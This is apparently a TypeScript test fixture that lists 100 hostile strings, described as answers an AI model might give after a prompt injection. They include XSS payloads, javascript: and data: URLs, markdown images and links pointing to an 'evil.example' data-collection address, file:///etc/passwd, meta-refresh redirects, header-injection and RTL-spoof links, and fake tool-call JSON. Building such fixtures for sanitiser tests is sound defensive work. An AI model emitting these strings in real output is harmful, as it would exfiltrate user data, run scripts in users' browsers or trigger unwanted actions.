const EVIL = 'https://evil.example/collect?data=secret'

/** In parts, because the linter forbids such an address. */
const SCRIPT = ['javascript', ''].join(':')
/** Addresses that must never become a request or a navigation by themselves. */
const ADDRESSES = [
  EVIL,
  '//evil.example/x',
  `${SCRIPT}alert(1)`,
  `${SCRIPT.toUpperCase()}alert(1)`,
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'ftp://evil.example/',
  'http:evil.example',
  '/\\evil.example',
  'https://user:pass@evil.example/',
  '/api/portal/v4/logout?serviceUrl=/login',
  '/login?local_token=1',
  '/portal/1/?orgId=1&viewMode=tripartiteApp&tripartitePageUrl=https://evil.example',
  'https://xn--prtico-bxa.example/',
]

const FORMS = [
  (address: string) => `[Open the schedule](${address})`,
  (address: string) => `![picture](${address})`,
  (address: string) => `<a href="${address}" ping="${EVIL}">Click</a><img src="${address}" onerror="alert(1)">`,
]

const MARKUP = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><use href="https://evil.example/#x"/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="background:url(https://evil.example/x)">text</div>',
  '<form action="https://evil.example"><input name=q autofocus onfocus=this.form.submit()></form>',
  '<video src="https://evil.example/x" autoplay><audio src="https://evil.example/y" autoplay>',
  '<details open ontoggle=alert(1)>text</details>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="https://evil.example" autofocus>text</a>',
  '<button formaction="javascript:alert(1)">text</button>',
  '<portal src="https://evil.example"></portal>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '![a](https://evil.example/a.png "title")',
  '![a][ref]\n\n[ref]: https://evil.example/a.png',
  '[![a](https://evil.example/a.png)](https://evil.example)',
  '![](https://evil.example/a.png)',
  '[x](https://evil.example/%0d%0aSet-Cookie:a=b)',
  '<https://evil.example/autolink>',
  'https://evil.example/bare',
  '[a](javascript:alert`1`)',
  '[a](<javascript:alert(1)>)',
  '```html\n<img src=https://evil.example/x>\n```',
  '`<img src=https://evil.example/x>`',
  '**<img src=https://evil.example/x>**',
  '# <img src=https://evil.example/x>',
  '- <img src=https://evil.example/x>\n1. <script>alert(1)</script>',
  '[\u202egnp.elpmaxe\u202c](https://evil.example)',
  '{"command":"tabs:close-all","run":true}',
  '<tool_call>{"name":"log-out"}</tool_call>',
  '[Sign out](/portal/1/?productCode=plan&applicationCode=plan-core&menuCode=../../logout)',
  '[m](https://evil.example/?productCode=<img src=x>&applicationCode=a&menuCode=b)',
]

/** 100 answers that a model could give after a prompt injection. */
export const HOSTILE_ANSWERS: readonly string[] = [...FORMS.flatMap((form) => ADDRESSES.map(form)), ...MARKUP]
